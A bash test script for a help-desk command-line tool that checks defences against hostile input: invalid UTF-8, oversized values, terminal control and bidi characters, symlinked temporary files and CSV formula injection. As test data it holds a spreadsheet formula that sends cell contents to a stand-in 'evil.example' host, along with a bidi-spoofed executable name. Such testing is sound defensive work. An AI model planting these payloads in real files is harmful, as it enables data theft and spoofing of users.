#!/usr/bin/env bash
# Hostile input (issue 7, sections 3 and 4): text that is not UTF-8 and
# oversized values are refused with exit 2 before they reach the store; an
# error quotes bad input only as a short excerpt; output is safe for
# terminals (C1 controls, raw 0x9B, bidi overrides) and for spreadsheets
# (formula injection in CSV), and export | import still round-trips exactly.
. "$(dirname "$0")/lib.sh"

DB2="$TEST_DIR/copy.db"
sd2() {
  local saved=$DB
  DB=$DB2
  sd "$@"
  DB=$saved
}

sd 0 init "$DB"
sd 0 open "Mail bounces" -q
before=$(store_digest)
BAD=$(printf 'bad \xff')

# --- Invalid UTF-8 is refused, naming the field -----------------------------
sd 2 open "$BAD"
expect_error "title: not valid UTF-8 at byte 5 (accepted: UTF-8 text)" "invalid UTF-8 title"
sd 2 open "ok" --requester "$(printf '\xc3(')"
expect_error "requester: not valid UTF-8" "invalid UTF-8 requester"
sd 2 open "ok" -t "$(printf 'x\xed\xa0\x80')"
expect_error "tags: not valid UTF-8" "a surrogate in a tag"
sd 2 comment 1 "$BAD"
expect_error "comment: not valid UTF-8" "invalid UTF-8 comment"
sd 2 update 1 --title "$BAD"
expect_error "title: not valid UTF-8" "invalid UTF-8 in update --title"
sd 2 --as "$BAD" comment 1 "hello"
expect_error "actor: not valid UTF-8" "invalid UTF-8 acting user"
out=$(printf 'line one\n\x9b2J' | "$SDESK" --db "$DB" open "from stdin" -d - 2>"$TEST_DIR/stderr")
rc=$?
err=$(cat "$TEST_DIR/stderr")
expect_eq "$rc" "2" "invalid UTF-8 on standard input: exit"
expect_error "description: not valid UTF-8 at byte 10" "invalid UTF-8 on standard input"
[ "$(store_digest)" = "$before" ] || fail "a refused argument changed the store"

# Import: CSV, and JSON Lines (a raw byte, and an escape that decodes to a
# lone surrogate), name the line and the field.
printf 'title,created\nok,2026-11-01T10:00:00Z\n%s,2026-11-01T10:00:00Z\n' "$BAD" >"$TEST_DIR/bad.csv"
sd 2 import "$TEST_DIR/bad.csv"
expect_error "line 3: field 'title': not valid UTF-8" "invalid UTF-8 in CSV"
printf '{"title":"ok","created":"2026-11-01T10:00:00Z","requester":"\\udc00"}\n' >"$TEST_DIR/surrogate.jsonl"
sd 2 import "$TEST_DIR/surrogate.jsonl"
expect_contains "$err" "line 1:" "lone surrogate escape in JSON Lines: line"
printf '{"title":"%s","created":"2026-11-01T10:00:00Z"}\n' "$BAD" >"$TEST_DIR/bad.jsonl"
sd 2 import "$TEST_DIR/bad.jsonl"
expect_contains "$err" "line 1:" "invalid UTF-8 in JSON Lines"
printf '{"title":"ok","created":"2026-11-01T10:00:00Z","events":[{"at":"2026-11-01T10:00:00Z","action":"comment","note":"\\udfff"}]}\n' >"$TEST_DIR/note.jsonl"
sd 2 import "$TEST_DIR/note.jsonl"
expect_error "line 1: field 'events[0].note': not valid UTF-8" "invalid UTF-8 in an event note"
[ "$(store_digest)" = "$before" ] || fail "a refused import changed the store"

# A NUL byte is valid UTF-8 but no text: it was stored (from standard input
# or a JSON "\u0000"), and cut the text short for any C consumer.
out=$(printf 'before\0after' | "$SDESK" --db "$DB" comment 1 - 2>"$TEST_DIR/stderr")
rc=$?
err=$(cat "$TEST_DIR/stderr")
expect_eq "$rc" "2" "a NUL byte on standard input: exit"
expect_error "comment: a NUL byte at byte 7 (accepted: UTF-8 text without NUL)" "a NUL byte in a comment"
printf '{"title":"nul\\u0000here","created":"2026-11-01T10:00:00Z"}\n' >"$TEST_DIR/nul.jsonl"
sd 2 import "$TEST_DIR/nul.jsonl"
expect_error "line 1: field 'title': a NUL byte at byte 4" "a NUL byte in an imported title"
[ "$(store_digest)" = "$before" ] || fail "a refused NUL changed the store"

# TOML: toml++ refuses a configuration file that is not UTF-8 (a config
# error, exit 6, naming the file and line).
printf '[desk]\ncategories = ["%s"]\n' "$BAD" >"$TEST_DIR/bad.toml"
sd 6 --config "$TEST_DIR/bad.toml" list
expect_contains "$err" "$TEST_DIR/bad.toml:2" "invalid UTF-8 in TOML names the line"
expect_contains "$err" "invalid utf-8" "invalid UTF-8 in TOML says why"

# --- Size limits: exit 2, the limits of docs/limits.md ----------------------
sd 0 open "$(head -c 1024 /dev/zero | tr '\0' t)" -q
sd 2 open "$(head -c 1025 /dev/zero | tr '\0' t)"
expect_error "title: too long, 1025 bytes (accepted: at most 1024 bytes; see docs/limits.md)" "title limit"
sd 2 open "ok" --requester "$(head -c 257 /dev/zero | tr '\0' r)"
expect_error "requester: too long, 257 bytes" "short text limit"
sd 2 open "ok" -t "$(head -c 65 /dev/zero | tr '\0' t)"
expect_error "tags: too long, 65 bytes" "tag length limit"
sd 2 open "ok" -t "$(seq -s, 1 65)"
expect_error "tags: 65 tags (accepted: at most 64" "tag count limit"
sd 0 open "ok" -t "$(seq -s, 1 64)" -q
after_limits=$(store_digest)
head -c 1048577 /dev/zero | tr '\0' d >"$TEST_DIR/long.txt"
out=$("$SDESK" --db "$DB" open "long" -d - <"$TEST_DIR/long.txt" 2>"$TEST_DIR/stderr")
rc=$?
err=$(cat "$TEST_DIR/stderr")
expect_eq "$rc" "2" "description over the limit: exit"
expect_error "description: too long" "description limit"
out=$("$SDESK" --db "$DB" comment 1 - <"$TEST_DIR/long.txt" 2>"$TEST_DIR/stderr")
rc=$?
err=$(cat "$TEST_DIR/stderr")
expect_eq "$rc" "2" "comment over the limit: exit"
expect_error "comment: too long" "comment limit"
head -c 1048576 "$TEST_DIR/long.txt" >"$TEST_DIR/max.txt"
out=$("$SDESK" --db "$DB" comment 1 - <"$TEST_DIR/max.txt" 2>"$TEST_DIR/stderr")
expect_eq "$?" "0" "a comment of exactly the limit is stored"
after_limits=$(store_digest)

# A huge standard input is refused without being read to its end: the
# writer is cut off (SIGPIPE) long before it wrote 300 MB.
rm -f "$TEST_DIR/all-written"
{ head -c 300000000 /dev/zero && touch "$TEST_DIR/all-written"; } 2>/dev/null \
  | "$SDESK" --db "$DB" open "huge" -d - >/dev/null 2>"$TEST_DIR/stderr"
rc=${PIPESTATUS[1]}
err=$(cat "$TEST_DIR/stderr")
expect_eq "$rc" "2" "huge standard input: exit"
expect_contains "$err" "description: too long" "huge standard input: message"
[ ! -e "$TEST_DIR/all-written" ] || fail "sdesk read all of a 300 MB standard input"
[ "$(store_digest)" = "$after_limits" ] || fail "a refused oversized value changed the store"

# Import: a field over its limit names the line and field; a line (or CSV
# record) over the import limit is refused as it is read.
{ printf '{"created":"2026-11-01T10:00:00Z","title":"x","description":"'
  head -c 1048577 /dev/zero | tr '\0' d
  printf '"}\n'; } >"$TEST_DIR/longfield.jsonl"
sd 2 import "$TEST_DIR/longfield.jsonl"
expect_error "line 1: field 'description': too long, 1048577 bytes" "import field limit"
{ printf '{"created":"2026-11-01T10:00:00Z","title":"x","ref":"'
  head -c 16777216 /dev/zero | tr '\0' r
  printf '"}\n'; } >"$TEST_DIR/longline.jsonl"
sd 2 import "$TEST_DIR/longline.jsonl"
expect_error "line 1: longer than 16777216 bytes" "JSON Lines line limit"
{ printf 'title,created,description\nx,2026-11-01T10:00:00Z,"'
  for _ in $(seq 1 17); do head -c 1048000 /dev/zero | tr '\0' d; printf '\n'; done
  printf '"\n'; } >"$TEST_DIR/longrecord.csv"
sd 2 import "$TEST_DIR/longrecord.csv"
expect_error "line 2: record longer than 16777216 bytes" "CSV record limit"
[ "$(store_digest)" = "$after_limits" ] || fail "a refused import changed the store"

# --- Errors quote bad input only as a short excerpt -------------------------
{ head -c 300000 /dev/zero | tr '\0' h; printf '\nx\n'; } >"$TEST_DIR/header.csv"
sd 2 import "$TEST_DIR/header.csv"
expect_error "line 1: unknown field 'hhhhh" "a 300 KB header"
expect_contains "$err" "…' (300000 bytes)" "the excerpt gives the full length"
[ "${#err}" -lt 1000 ] || fail "error for a 300 KB CSV header is ${#err} bytes long"
sd 2 list --created-since "$(head -c 100000 /dev/zero | tr '\0' 9)"
expect_error "--created-since: bad date/time '999" "a 100 KB date"
[ "${#err}" -lt 1000 ] || fail "error for a 100 KB date is ${#err} bytes long"
sd 2 list --status "$(head -c 100000 /dev/zero | tr '\0' s)"
[ "${#err}" -lt 1000 ] || fail "error for a 100 KB status is ${#err} bytes long"

# --- Terminal output: C1 controls, raw 0x9B, bidi overrides -----------------
C1=$(printf 'c1\xc2\x9b31m\xc2\x85end')
BIDI=$(printf 'invoice\xe2\x80\xaefdp.exe \xe2\x81\xa6iso\xe2\x81\xa9')
sd 0 open "$C1" --requester "$BIDI" -c "$BIDI" -q
c1_id=$out
sd 0 comment "$c1_id" "$BIDI"
# A store written by an older sdesk may hold raw bytes: a raw 8-bit CSI.
sqlite3 "$DB" "UPDATE ticket SET assignee = CAST(x'72617709' || x'9b' || x'33316d' AS TEXT) WHERE id = $c1_id"
unsafe() { LC_ALL=C grep -c $'\xc2[\x80-\x9f]\|\x9b\|\xe2\x80[\xaa-\xae]\|\xe2\x81[\xa6-\xa9]' || true; }
sd 0 list
expect_eq "$(printf '%s' "$out" | unsafe)" "0" "list: no C1, 0x9B or bidi controls"
expect_contains "$out" "c1?31m?end" "list: C1 controls shown as ?"
sd 0 show "$c1_id"
expect_eq "$(printf '%s' "$out" | unsafe)" "0" "show: no C1, 0x9B or bidi controls"
expect_contains "$out" "invoice?fdp.exe ?iso?" "show: bidi controls shown as ?"
expect_contains "$out" "assignee        raw ?31m" "show: a raw 0x9B shown as ?"
sd 0 log "$c1_id"
expect_eq "$(printf '%s' "$out" | unsafe)" "0" "log: no C1, 0x9B or bidi controls"
sd 0 list --status new --sort -id --limit 1
expect_eq "$(printf '%s' "$out" | unsafe)" "0" "list --limit: no C1, 0x9B or bidi controls"
sd 0 sla
expect_eq "$(printf '%s' "$out" | unsafe)" "0" "sla: no C1, 0x9B or bidi controls"
sd 0 sla explain "$c1_id"
expect_eq "$(printf '%s' "$out" | unsafe)" "0" "sla explain: no C1, 0x9B or bidi controls"
sd 0 report --month 2026-11 --by category
expect_eq "$(printf '%s' "$out" | unsafe)" "0" "report table: no C1, 0x9B or bidi controls"
sd 0 report --month 2026-11 --by category --format markdown
expect_eq "$(printf '%s' "$out" | unsafe)" "0" "report markdown: no C1, 0x9B or bidi controls"
sd 2 list --status "$BIDI"
expect_eq "$(printf '%s' "$err" | unsafe)" "0" "an error quoting input: no bidi controls"
# JSON output is always valid JSON in UTF-8, even for such a legacy store.
is_utf8() { iconv -f UTF-8 -t UTF-8 >/dev/null 2>&1; }
sd 0 list --json
jq -e . <<<"$out" >/dev/null || fail "list --json is not valid JSON"
printf '%s' "$out" | is_utf8 || fail "list --json is not UTF-8"
sd 0 show "$c1_id" --json
printf '%s' "$out" | is_utf8 || fail "show --json is not UTF-8"
expect_contains "$out" '"assignee":"raw\t\ufffd31m"' "show --json: a raw byte becomes U+FFFD"
sd 0 export
printf '%s' "$out" | is_utf8 || fail "export is not UTF-8"

# --- CSV for spreadsheets: formulas neutralised, round trip exact ----------
DB="$TEST_DIR/csv.db"
sd 0 init "$DB"
FORMULA='=HYPERLINK("http://evil.example/?"&A1,"click")'
sd 0 open "$FORMULA" --requester "=2+5" -c "@SUM(A1)" --tag=-x -q
sd 0 open "'quoted" --requester "+1" --category=-5 -q
sd 0 open "$(printf '\tTab')" --requester=-1+2 -c "'=x" -q
sd 0 list --csv
expect_contains "$out" "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\"" "list --csv: formula title"
expect_contains "$out" ",'=2+5," "list --csv: formula requester"
expect_contains "$out" "''quoted," "list --csv: a leading quote is doubled"
expect_contains "$out" ",'+1," "list --csv: a leading +"
expect_contains "$out" ",-5," "list --csv: a negative number stays a number"
expect_contains "$out" ",'-1+2," "list --csv: -1+2 is a formula"
[ -z "$(printf '%s\n' "$out" | grep -E '(^|,)"?[=+@]')" ] || fail "list --csv: a cell begins with = + or @: $out"
sd 0 report --month 2026-11 --by category --format csv
expect_contains "$out" "row,'@SUM(A1)," "report csv: formula category"
expect_contains "$out" "row,''=x," "report csv: quoted category"
expect_contains "$out" "row,-5," "report csv: negative number category"
sd 0 export --format csv
expect_contains "$out" ",'=2+5," "export csv: formula requester"
printf '%s\n' "$out" >"$TEST_DIR/export.csv"
sd 0 list --json
orig=$(jq -c '[.[] | {title, requester, category, tags}]' <<<"$out")
sd2 0 init "$DB2"
sd2 0 import "$TEST_DIR/export.csv"
sd2 0 list --json
copy=$(jq -c '[.[] | {title, requester, category, tags}]' <<<"$out")
expect_eq "$copy" "$orig" "export --format csv | import round-trips every value"
expect_eq "$(jq -r '.[2].title' <<<"$out" | od -c | head -1)" "$(printf '\tTab\n' | od -c | head -1)" "round trip keeps a leading TAB"
expect_contains "$copy" '"title":"=HYPERLINK(' "round trip keeps the formula title"
expect_contains "$copy" '"title":"'"'"'quoted"' "round trip keeps a leading quote"
expect_contains "$copy" '"category":"'"'"'=x"' "round trip keeps a quote before ="
expect_contains "$copy" '"requester":"-1+2"' "round trip keeps -1+2"
sd 0 export
printf '%s\n' "$out" >"$TEST_DIR/export.jsonl"
rm -f "$DB2"
sd2 0 init "$DB2"
sd2 0 import "$TEST_DIR/export.jsonl"
sd2 0 list --json
expect_eq "$(jq -c '[.[] | {title, requester, category, tags}]' <<<"$out")" "$orig" "export | import (JSON Lines) round-trips every value"

# --- A blank category or service is none; a name is one line ------------------
# `open -c ''` stored "" (and `-s ' '` a blank) beside null: reports then
# counted a nameless category apart from "none". Blank now means none, which
# is also how `update` clears them; import already read "" as none.
sd 0 open "Blank names" -c '' -s ' ' -q
blank=$out
sd 0 show "$blank" --json
expect_eq "$(jq -c '[.ticket.category, .ticket.service]' <<<"$out")" "[null,null]" "open: blank category and service are none"
sd 0 update "$blank" -c printer -s mail -q
sd 0 update "$blank" -c '' -s '  ' -q
sd 0 show "$blank" --json
expect_eq "$(jq -c '[.ticket.category, .ticket.service]' <<<"$out")" "[null,null]" "update: a blank value clears"
sd 0 log "$blank"
expect_contains "$out" "category: printer -> (none)" "the clearing is in the history"
before=$(store_digest)
sd 2 open "Two-line category" -c "$(printf 'net\nwork')"
expect_error "--category: must be a single line" "open: multi-line category"
sd 2 update "$blank" -s "$(printf 'mail\rrelay')"
expect_error "--service: must be a single line" "update: multi-line service"
expect_eq "$(store_digest)" "$before" "refused names leave the store unchanged"

# --- An agent is a name: not blank, one line ----------------------------------
# With no agents configured any name is accepted, but `assign ID ' '` stored
# a blank assignee and a line break split one over two lines.
before=$(store_digest)
sd 2 assign "$blank" ' '
expect_error "agent: agent name is empty" "assign to a blank name"
sd 2 assign "$blank" "$(printf 'ann\nbob')"
expect_error "agent: must be a single line" "assign to a two-line name"
sd 2 open "Two-line assignee" -a "$(printf 'ann\rbob')"
expect_error "--assignee: must be a single line" "open -a with a line break"
expect_eq "$(store_digest)" "$before" "refused agents leave the store unchanged"

# --- --output never writes through a link it did not make -------------------
# report and export write FILE through a temporary file beside it, then
# rename. That file had a predictable name (FILE.tmp, FILE.tmpPID) and was
# opened following links: whoever can write the directory could plant
# FILE.tmp -> a file of the user's, and the report overwrote it.
victim="$TEST_DIR/victim.txt"
printf 'keep\n' >"$victim"
ln -s "$victim" "$TEST_DIR/monthly.html.tmp"
saved_umask=$(umask)
umask 022
sd 0 report --month 2026-11 --format html --output "$TEST_DIR/monthly.html"
expect_eq "$(cat "$victim")" "keep" "report --output: a planted FILE.tmp link is not written through"
expect_contains "$(head -c 200 "$TEST_DIR/monthly.html")" "<!DOCTYPE html>" "report --output still writes the report"
expect_eq "$(stat -c %a "$TEST_DIR/monthly.html")" "644" "report --output: the mode the umask gives"
sd 0 export --output "$TEST_DIR/all.csv"
umask "$saved_umask"
expect_eq "$(stat -c %a "$TEST_DIR/all.csv")" "644" "export --output: the mode the umask gives"
expect_eq "$(ls "$TEST_DIR" | grep -c '\.tmp')" "1" "no temporary file is left beside the outputs (only the planted link)"

# --- The actor is a name: not blank, one line ----------------------------------
# `--as ''` and SDESK_USER=' ' recorded history with no one as its actor,
# and `--as` with a line break split the actor over two lines.
sd 2 --as '' comment "$blank" "who am I"
expect_error "--as: must not be empty (accepted: a user name on one line)" "--as ''"
sd 2 --as "$(printf 'ann\nbob')" comment "$blank" "who am I"
expect_error "--as: must be a single line (accepted: a user name on one line)" "--as with a line break"
SDESK_USER='  ' sd 2 comment "$blank" "who am I"
expect_error "SDESK_USER: must not be empty" "a blank SDESK_USER"
expect_eq "$(store_digest)" "$before" "a refused actor leaves the store unchanged"
SDESK_USER= sd 0 --as ann comment "$blank" "named"
sd 0 log "$blank"
expect_contains "$(tail -1 <<<"$out")" "  ann  " "a good --as is the actor"

finish
